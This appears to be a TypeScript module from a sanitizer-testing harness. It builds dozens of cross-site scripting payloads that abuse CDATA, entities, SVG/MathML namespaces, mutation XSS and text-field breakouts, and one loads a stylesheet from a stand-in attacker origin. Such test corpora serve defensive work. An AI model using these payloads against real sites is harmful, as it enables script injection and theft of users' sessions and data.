import { hexEntities, js, SHAPE, SVG_OPEN, type Template } from './payloadParts.ts';
import type { XssFamily } from './XssVector.ts';
import { XSS_EVIL_ORIGIN } from './xssTargets.ts';

/** Payloads that confuse the parser: CDATA and entities, namespaces, mutation XSS, HTML in text fields. */
export const PARSER_PAYLOADS: Record<
  Extract<XssFamily, 'cdata-entity' | 'namespace' | 'mutation' | 'html-text'>,
  Record<string, Template>
> = {
  'cdata-entity': {
    'cdata-img': (id) => `<svg><![CDATA[<img src=x onerror="${js(id)}">]]></svg>`,
    'cdata-close-svg': (id) => `<svg><![CDATA[</svg><img src=x onerror="${js(id)}">]]></svg>`,
    'cdata-script-body': (id) => `<svg><script><![CDATA[${js(id)}]]></script></svg>`,
    'cdata-text-breakout': (id) => `<svg><text><![CDATA[</text><script>${js(id)}</script>]]></text></svg>`,
    'entity-hex-javascript': (id) =>
      `${SVG_OPEN}<a href="${hexEntities('javascript:')}${js(id)}">${SHAPE}</a></svg>`,
    'entity-padded-decimal': (id) =>
      `${SVG_OPEN}<a href="${Array.from('javascript:', (c) => `&#000${c.codePointAt(0)}`).join('')}${js(id)}">${SHAPE}</a></svg>`,
    'entity-double-escaped': (id) => `&lt;svg onload=${js(id)}&gt;`,
    'entity-comment-breakout': (id) => `<svg><!--><img src=x onerror="${js(id)}">--></svg>`,
    'entity-bang-comment': (id) => `<svg><!-- --!><img src=x onerror="${js(id)}"> --></svg>`,
    'entity-doctype-entity': (id) =>
      `<!DOCTYPE svg [<!ENTITY x "<img src=x onerror=${js(id)}>">]><svg>&x;</svg>`,
    'entity-xml-stylesheet-pi': (id) => `<?xml-stylesheet href="${XSS_EVIL_ORIGIN}/${id}.xsl"?><svg/>`,
    'entity-escaped-script-text': (id) => `<svg>&lt;script&gt;${js(id)}&lt;/script&gt;</svg>`,
    'entity-title-escaped-img': (id) => `<svg><title>&lt;img src=x onerror=${js(id)}&gt;</title></svg>`,
    'entity-null-in-tag': (id) => `<svg><scr\u0000ipt>${js(id)}</scr\u0000ipt></svg>`,
    'entity-processing-instruction': (id) => `<svg><?x <img src=x onerror="${js(id)}">?></svg>`,
  },
  namespace: {
    'ns-math-mglyph-style': (id) => `<math><mtext><table><mglyph><style><img src=x onerror="${js(id)}">`,
    'ns-svg-p-style': (id) => `<svg></p><style><a id="</style><img src=1 onerror=${js(id)}>">`,
    'ns-math-textarea': (id) =>
      `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${js(id)} src=1>">`,
    'ns-svg-math-mglyph': (id) => `<svg><math><mi><mglyph><svg><style><img src=x onerror="${js(id)}">`,
    'ns-form-math': (id) =>
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js(id)}>`,
    'ns-annotation-xml-math': (id) =>
      `<math><annotation-xml encoding="text/html"><img src=x onerror="${js(id)}"></annotation-xml></math>`,
    'ns-annotation-xml-svg': (id) =>
      `<svg><annotation-xml encoding="text/html"><img src=x onerror="${js(id)}">`,
    'ns-xhtml-default': (id) =>
      `<svg xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="${js(id)}"></svg>`,
    'ns-html-prefix': (id) =>
      `<svg><html:img xmlns:html="http://www.w3.org/1999/xhtml" src=x onerror="${js(id)}"/></svg>`,
    'ns-xlink-alias': (id) =>
      `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:${js(id)}">${SHAPE}</a></svg>`,
    'ns-svg-prefixed-script': (id) =>
      `<svg><svg:script xmlns:svg="http://www.w3.org/2000/svg">${js(id)}</svg:script></svg>`,
    'ns-noscript-title': (id) => `<svg><noscript><p title="</noscript><img src=x onerror=${js(id)}>">`,
    'ns-noscript-bare': (id) => `<noscript><p title="</noscript><img src=x onerror=${js(id)}>">`,
    'ns-template': (id) => `<svg><template><img src=x onerror="${js(id)}"></template></svg>`,
    'ns-desc-template-style': (id) =>
      `<svg><desc><template><style>/*</style><img src=x onerror=${js(id)}>*/</style></template></desc></svg>`,
    'ns-title-style': (id) => `<svg><title><style><img src=x onerror="${js(id)}"></style></title></svg>`,
    'ns-iframe-srcdoc': (id) => `<svg><iframe srcdoc="<script>${js(id)}</script>"></iframe></svg>`,
    'ns-math-href': (id) => `<math href="javascript:${js(id)}"><mi>x</mi></math>`,
    'ns-mathml-maction': (id) =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${js(id)}"><mtext>x</mtext></maction></math>`,
  },
  mutation: {
    'mxss-p-style': (id) => `<svg><p><style><img src=x onerror="${js(id)}"></p></svg>`,
    'mxss-style-escaped': (id) =>
      `<svg><style>&lt;/style&gt;&lt;img src=x onerror=${js(id)}&gt;</style></svg>`,
    'mxss-textarea-title': (id) =>
      `<svg><textarea><img title="</textarea><img src=x onerror=${js(id)}>"></textarea></svg>`,
    'mxss-select-template': (id) =>
      `<svg><select><template><style><!--</style><img src=x onerror=${js(id)}>--></style></template></select></svg>`,
    'mxss-table-svg-style': (id) => `<svg><table><svg><style><img src=x onerror="${js(id)}">`,
    'mxss-title-attribute': (id) =>
      `<svg><a title="&lt;/style&gt;&lt;img src=x onerror=${js(id)}&gt;"><style>x</style></a></svg>`,
    'mxss-two-svgs': (id) =>
      `<svg><rect id="x"/></svg><svg><rect id="x" width="9" height="9" onclick="${js(id)}"/></svg>`,
    'mxss-style-comment': (id) => `<svg><style>/*<style><img src=x onerror=${js(id)}>*/</style></svg>`,
    'mxss-id-breakout': (id) => `<svg><p id="</svg><img src=x onerror=${js(id)}>">`,
    'mxss-frameset': (id) => `<svg><frameset onload="${js(id)}">`,
    'mxss-noembed': (id) =>
      `<svg><noembed><img title="</noembed><img src=x onerror=${js(id)}>"></noembed></svg>`,
    'mxss-noframes': (id) =>
      `<svg><noframes><img title="</noframes><img src=x onerror=${js(id)}>"></noframes></svg>`,
    'mxss-plaintext': (id) => `<svg><plaintext><img src=x onerror="${js(id)}">`,
    'mxss-xmp': (id) => `<svg><xmp><img title="</xmp><img src=x onerror=${js(id)}>"></xmp></svg>`,
    'mxss-svg-in-title': (id) =>
      `<svg><title><svg><style><img src=x onerror=${js(id)}></style></svg></title></svg>`,
    'mxss-nested-forms': (id) =>
      `<svg><form id="f"><form><input form="f" autofocus onfocus="${js(id)}"></form></form></svg>`,
    'mxss-backtick-attr': (id) => `<svg><rect width=\`9\` onmouseover=\`${js(id)}\`/></svg>`,
  },
  'html-text': {
    'text-attribute-breakout': (id) => `"><img src=x onerror="${js(id)}">`,
    'text-single-quote-breakout': (id) => `'><script>${js(id)}</script>`,
    'text-template-injection': (id) => `{{constructor.constructor("${js(id)}")()}}`,
    'text-template-literal': (id) => `\${${js(id)}}`,
    'text-javascript-uri': (id) => `javascript:${js(id)}`,
    'text-textarea-breakout': (id) => `</textarea><script>${js(id)}</script>`,
    'text-title-breakout': (id) => `</title><script>${js(id)}</script>`,
    'text-json-breakout': (id) => `</script><script>${js(id)}</script>`,
    'text-html-comment': (id) => `<!--<img src="--><img src=x onerror=${js(id)}//">`,
    'text-unicode-escapes': (id) => `\u003cimg src=x onerror=${js(id)}\u003e`,
    'text-bidi-override': (id) => `\u202e<img src=x onerror=${js(id)}>\u202c`,
    'text-svg-as-text': (id) => `<svg onload=${js(id)}>`,
    'text-markdown-link': (id) => `[Activate](javascript:${js(id)})`,
    'text-iframe': (id) => `<iframe src="javascript:${js(id)}"></iframe>`,
  },
};
